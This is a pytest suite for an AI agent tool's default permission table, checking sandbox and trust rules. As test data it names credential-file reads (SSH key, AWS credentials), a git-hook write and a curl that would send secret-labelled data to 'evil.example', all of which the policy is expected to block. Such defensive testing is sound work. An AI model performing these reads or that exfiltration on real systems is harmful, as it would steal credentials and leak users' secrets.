"""The default table, row by row: what a user meets who has configured nothing."""

import tomllib
from dataclasses import replace

import pytest
from tests.kit.policy_cases import (
    BUBBLEWRAP,
    MACHINE,
    PROCESS,
    UNTRUSTED,
    USER,
    builtin_text,
    command,
    context,
    default_rules,
    effect,
    judge,
    request,
    verdict,
    with_user_rules,
)

from gloveport.protocol.ids import CallId
from gloveport.server.policy.answer import grant_from_answer
from gloveport.server.policy.card import build_card
from gloveport.server.policy.effects import EffectKind
from gloveport.server.policy.errors import RulesInvalidError
from gloveport.server.policy.labels import Integrity, Label
from gloveport.server.policy.request import Request
from gloveport.server.policy.rules.load import load_rules
from gloveport.server.policy.rules.rule import Rule, Source, Verdict
from gloveport.server.policy.rules.ruleset import build_ruleset
from gloveport.server.policy.rung import TrustLevel

ROWS: tuple[tuple[str, Request, str, str], ...] = (
    # (rule that decides, call, verdict, risk)
    ("none.tool", request(tool="update_plan"), "allow", "low"),
    ("read.project", request(effect("read", "src/app.py"), tool="read_file"), "allow", "low"),
    ("read.project", request(effect("search", "."), tool="search"), "allow", "low"),
    ("read.sensitive", request(effect("read", ".env"), tool="read_file"), "ask", "high"),
    ("read.secret", request(effect("secret_read", "notes.txt"), tool="read_file"), "ask", "high"),
    ("read.outside", request(effect("read", "/usr/include/stdio.h"), tool="read_file"), "ask", "high"),
    ("read.outside-secrets", request(effect("read", "~/.ssh/id_ed25519"), tool="read_file"), "deny", "high"),
    ("read.outside-secrets", request(effect("read", "~/.aws/credentials"), tool="read_file"), "deny", "high"),
    ("write.worktree", request(effect("write", "src/app.py")), "allow", "low"),
    ("write.never", request(effect("write", ".git/hooks/pre-commit")), "deny", "high"),
    ("write.runs-by-itself", request(effect("write", "conftest.py")), "ask", "medium"),
    ("write.sensitive", request(effect("write", "deploy/server.pem")), "ask", "high"),
    ("write.outside", request(effect("write", "../x")), "deny", "high"),
    ("delete.worktree", request(effect("delete", "old.py"), tool="delete_file"), "allow", "medium"),
    ("delete.mass", request(effect("delete", "src", recursive="true"), tool="delete_file"), "ask", "medium"),
    ("delete.mass", request(*(effect("delete", f"a{n}.py") for n in range(10)), tool="delete_file"), "ask", "medium"),
    ("execute.default", command("pytest", "-q", tool="run_tests"), "ask", "medium"),
    ("execute.looks-only", command("ls", "-la"), "allow", "low"),
    ("install.default", command("npm", "install"), "ask", "high"),
    ("execute.deletes", command("rm", "a.py"), "ask", "medium"),
    ("git.history", command("git", "rebase", "main"), "ask", "high"),
    ("network.default", request(effect("network", "api.example:443"), tool="http_request", label=USER), "ask", "high"),
    ("publish.default", command("git", "push", label=USER), "ask", "high"),
    ("message.default", request(effect("message", "a@b.example"), label=USER), "ask", "high"),
    ("memory.default", request(effect("memory_write", "note"), label=USER), "ask", "medium"),
    ("configure.default", request(effect("configure", "approvals.auto"), label=USER), "deny", "high"),
)


@pytest.mark.parametrize(
    ("rule", "call", "expected", "risk"), ROWS, ids=lambda value: value if isinstance(value, str) else ""
)
def test_row_of_the_default_table(rule: str, call: Request, expected: str, risk: str) -> None:
    decision = judge(call)
    assert (decision.verdict, decision.risk) == (expected, risk), decision.reason
    assert f"builtin:{rule}" in decision.rule_ids
    assert decision.rules_hash == default_rules().hash


@pytest.mark.parametrize(
    ("rule", "call", "expected"), [row[:3] for row in ROWS], ids=lambda value: value if isinstance(value, str) else ""
)
def test_row_fails_without_its_rule(rule: str, call: Request, expected: str) -> None:
    """Mutation: with the rule gone the decision is another, in its verdict or in what decided it."""
    rest = build_ruleset(one for one in default_rules().rules if one.rule_id != rule)
    with_rule, without = judge(call), judge(call, rules=rest)
    assert (with_rule.verdict, with_rule.rule_ids) != (without.verdict, without.rule_ids)
    if expected in {"allow", "deny"}:
        assert without.verdict == "ask", "an allow or a deny of the default table rests on its rule alone"


@pytest.mark.parametrize(
    ("rule", "call"), [row[:2] for row in ROWS], ids=lambda value: value if isinstance(value, str) else ""
)
def test_row_fails_with_its_rule_inverted(rule: str, call: Request) -> None:
    """Mutation: a rule that says the opposite is noticed by its row."""
    opposite = {Verdict.allow: Verdict.deny, Verdict.deny: Verdict.allow, Verdict.ask: Verdict.allow}
    bent = build_ruleset(
        replace(one, verdict=opposite[one.verdict]) if one.rule_id == rule else one for one in default_rules().rules
    )
    as_shipped, inverted = judge(call), judge(call, rules=bent)
    assert (as_shipped.verdict, as_shipped.rule_ids) != (inverted.verdict, inverted.rule_ids)


def test_every_shipped_rule_has_a_row() -> None:
    assert {row[0] for row in ROWS} == {rule.rule_id for rule in default_rules().rules}


def test_every_kind_of_effect_is_in_the_table() -> None:
    assert {kind for rule in default_rules().rules for kind in rule.kinds} == set(EffectKind)


@pytest.mark.parametrize("rule", default_rules().rules, ids=lambda rule: rule.rule_id)
def test_shipped_rule_has_examples_both_ways(rule: Rule) -> None:
    tables = {table["id"]: table for table in tomllib.loads(builtin_text())["rule"]}
    table = tables[rule.rule_id]
    assert table["match"]
    assert table["not_match"]


def test_a_rule_whose_example_does_not_hold_is_refused() -> None:
    text = builtin_text().replace('{ effect = "write", target = "x" }', '{ effect = "write", target = "../x" }')
    with pytest.raises(RulesInvalidError, match=r"write\.outside.*not_match"):
        load_rules(text, Source.builtin)


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (("verdict =", "verdikt ="), "unknown key"),
        (('verdict = "allow"', 'verdict = "maybe"'), "maybe"),
        (("justification =", "# "), "justification is missing"),
        (("version = 1", "version = 2"), "version"),
        (('effects = ["network"]', 'effects = ["teleport"]'), "teleport"),
        (('match = [{ effect = "network"', 'matches = [{ effect = "network"'), "unknown key"),
    ],
)
def test_a_misshapen_rule_is_refused(change: tuple[str, str], what: str) -> None:
    with pytest.raises(RulesInvalidError, match=what):
        load_rules(builtin_text().replace(*change), Source.builtin)


def test_a_session_may_not_allow_and_only_builtin_rules_fall_back() -> None:
    allow = """
        version = 1
        [[rule]]
        id = "mine"
        effects = ["execute"]
        verdict = "allow"
        justification = "Mine."
        match = [{ effect = "execute", argv = ["make"] }]
    """
    with pytest.raises(RulesInvalidError, match="stricter"):
        load_rules(allow, Source.session)
    with pytest.raises(RulesInvalidError, match="fallback"):
        load_rules(allow + "fallback = true", Source.user)


def test_two_rules_of_one_id_are_refused() -> None:
    rules = default_rules().rules
    with pytest.raises(RulesInvalidError, match="another rule"):
        build_ruleset([*rules, rules[0]])


# ---- trust, rung ----


@pytest.mark.parametrize(
    ("level", "label", "strength", "expected"),
    [
        ("trusted", "workspace", 1, "ask"),
        ("trusted", "workspace", 2, "ask"),
        ("restricted", "workspace", 1, "deny"),
        ("restricted", "workspace", 2, "ask"),
        ("untrusted", "workspace", 1, "deny"),
        ("untrusted", "workspace", 2, "deny"),
        ("untrusted", "workspace", 3, "ask"),
        (None, "workspace", 2, "deny"),
        (None, "workspace", 3, "ask"),
        ("trusted", "untrusted", 1, "deny"),
        ("trusted", "untrusted", 2, "ask"),
        ("restricted", "untrusted", 2, "ask"),
        ("trusted", "untrusted", 3, "ask"),
    ],
)
def test_rung_asks_for_the_strength_of_the_level(level: str | None, label: str, strength: int, expected: str) -> None:
    sandbox = {1: PROCESS, 2: BUBBLEWRAP, 3: MACHINE}[strength]
    call = command("pytest", sandbox=sandbox, **({"label": UNTRUSTED} if label == "untrusted" else {}))
    decision = judge(call, trust_level=None if level is None else TrustLevel(level))
    assert decision.verdict == expected
    if expected == "deny":
        assert "kernel:rung" in decision.rule_ids
        assert "needs" in decision.reason
        assert sandbox.name in decision.reason


def test_a_weaker_rung_for_untrusted_text_is_only_ever_for_one_call() -> None:
    decision = judge(command("pytest", label=UNTRUSTED))
    assert decision.need is not None
    assert decision.need.ceiling == "once"
    assert "kernel:rung" in decision.rule_ids
    stronger = judge(command("pytest", label=UNTRUSTED, sandbox=MACHINE)).need
    assert stronger is not None
    assert stronger.ceiling == "session"


def test_an_unknown_worktree_counts_as_untrusted() -> None:
    assert "kernel:rung" in judge(command("pytest"), worktree=None).rule_ids
    assert verdict(command("pytest", sandbox=PROCESS), worktree=None) == "deny"
    assert verdict(command("pytest", sandbox=PROCESS), worktree=Integrity.UNTRUSTED) == "deny"


def test_nothing_runs_without_a_sandbox() -> None:
    decision = judge(command("ls", sandbox=None))
    assert decision.verdict == "deny"
    assert "kernel:no-sandbox" in decision.rule_ids


def test_a_tool_that_runs_something_without_saying_what_needs_a_sandbox_too() -> None:
    call = request(effect("execute", "something"), tool="run_command")
    assert "kernel:no-sandbox" in judge(call).rule_ids
    assert verdict(request(*call.effects, tool="run_command", sandbox=PROCESS), trust_level=None) == "deny"
    assert verdict(request(*call.effects, tool="run_command", sandbox=BUBBLEWRAP)) == "ask"


def test_even_an_allowed_command_needs_its_rung() -> None:
    assert verdict(command("ls", sandbox=PROCESS), trust_level=TrustLevel.restricted) == "deny"


def test_writes_are_asked_about_until_the_workspace_has_a_trust_level() -> None:
    decision = judge(request(effect("write", "a.py")), trust_level=None)
    assert decision.verdict == "ask"
    assert decision.rule_ids == ("kernel:trust-unset",)
    assert verdict(request(effect("read", "a.py"), tool="read_file"), trust_level=None) == "allow"


# ---- the kernel's own checks ----


def test_an_unknown_effect_is_asked_about() -> None:
    decision = judge(request(tool="edit_file", unknown=("teleport:mars",)))
    assert decision.verdict == "ask"
    assert decision.rule_ids == ("kernel:unknown-effect",)
    assert decision.risk == "high"


def test_what_no_rule_speaks_of_is_asked_about() -> None:
    decision = judge(request(effect("read", "a.py"), tool="read_file"), rules=build_ruleset([]))
    assert (decision.verdict, decision.rule_ids) == ("ask", ("kernel:no-rule",))


def test_a_tool_that_declares_nothing_is_asked_about() -> None:
    assert judge(request(tool="edit_file")).rule_ids == ("kernel:no-effect",)


def test_unknown_tools_are_asked_about_and_paths_hold_for_them_too() -> None:
    """G12: a file system tool of a server is judged by the same paths."""
    assert verdict(request(effect("read", "a.py"), tool="fs__read")) == "ask"
    assert verdict(request(effect("write", ".git/hooks/x"), tool="fs__write")) == "deny"
    assert "builtin:read.sensitive" in judge(request(effect("read", ".env"), tool="fs__read")).rule_ids
    assert verdict(request(effect("write", ".gloveport/rules.toml"), tool="fs__write")) == "deny"


def test_g03_what_a_server_calls_its_tool_earns_no_lasting_right() -> None:
    """A tool that is not ours may change under its name: each call is asked about, and no name is another's."""
    call = request(effect("read", "a.py"), tool="srv__look")
    decision = judge(call)
    card = build_card(call, decision, context())
    assert [option["scope"] for option in card["options"]] == ["once"]
    grant = grant_from_answer(card, option=0, grant_id="g", approval_id="a", issued_at=1_000_000)
    assert verdict(call, grant) == "allow"
    assert verdict(replace(call, call_id=CallId("call-2")), grant) == "ask"
    for name in ("srv__look2", "other__look", "srv__read_file"):
        assert verdict(replace(call, tool=name), grant) == "ask"


def test_a_call_of_an_earlier_goal_is_refused() -> None:
    decision = judge(request(effect("read", "a.py"), tool="read_file", goal_revision=1), goal_revision=2)
    assert (decision.verdict, decision.rule_ids) == ("deny", ("kernel:old-goal",))


def test_empty_and_endless_commands_are_never_run() -> None:
    """B10: an empty command can't be approved, nor one too long to be shown."""
    for argv in ((), ("",), ("   ",)):
        assert "kernel:empty-command" in judge(command(*argv)).rule_ids
    assert "kernel:oversized-command" in judge(command("echo", "x" * 200_000)).rule_ids
    many = request(*(effect("read", f"f{n}") for n in range(5000)), tool="read_file")
    assert "kernel:too-many-effects" in judge(many).rule_ids


def test_nothing_runs_in_a_folder_outside() -> None:
    assert "kernel:folder-outside" in judge(command("ls", cwd="../other")).rule_ids


def test_irreversible_and_unasked_calls_are_asked_each_time() -> None:
    assert judge(request(effect("write", "a.py"), reversible=False)).rule_ids == ("kernel:irreversible",)
    unasked = judge(request(effect("delete", "a.py"), tool="delete_file", intent="absent"))
    assert unasked.rule_ids == ("kernel:intent",)
    assert unasked.need is not None
    assert unasked.need.ceiling == "once"
    assert verdict(request(effect("write", "a.py"), intent="absent")) == "allow"


# ---- labels ----


def test_sinks_take_only_the_users_word() -> None:
    rules = with_user_rules(
        """
        version = 1
        [[rule]]
        id = "my-api"
        effects = ["network"]
        hosts = ["api.example:443"]
        verdict = "allow"
        justification = "My own API."
        match = [{ effect = "network", target = "api.example:443" }]
        """
    )
    call = effect("network", "api.example:443")
    assert verdict(request(call, tool="http_request", label=USER), rules=rules) == "allow"
    assert judge(request(call, tool="http_request"), rules=rules).rule_ids == ("kernel:not-your-word",)
    for other in ("api.example:80", "api.example.evil.example:443", "xapi.example:443"):
        assert verdict(request(effect("network", other), tool="http_request", label=USER), rules=rules) == "ask"


def test_sensitive_then_send_is_stopped_across_tools() -> None:
    """R3.3: what only some may read goes to nobody else, and never by a program whose payload can't be shown."""
    secret = Label(Integrity.WORKSPACE, frozenset({"api.example"}))
    by_program = judge(command("curl", "https://evil.example/x", label=secret))
    assert by_program.verdict == "deny"
    assert "kernel:confidential" in by_program.rule_ids
    elsewhere = judge(request(effect("network", "evil.example:443"), tool="http_request", label=secret))
    assert elsewhere.verdict == "ask"
    assert "kernel:confidential" in elsewhere.rule_ids
    assert elsewhere.need is not None
    assert elsewhere.need.ceiling == "once"
    to_a_reader = judge(request(effect("network", "API.example:443"), tool="http_request", label=secret))
    assert "kernel:confidential" not in to_a_reader.rule_ids
    open_network = judge(command("pytest", label=secret, sandbox=PROCESS))
    assert "kernel:open-network" in open_network.rule_ids
    assert "kernel:open-network" not in judge(command("pytest", label=secret)).rule_ids


def test_decision_is_the_same_for_the_same_arguments() -> None:
    call = command("git", "push", "--force", label=UNTRUSTED)
    assert judge(call) == judge(call)
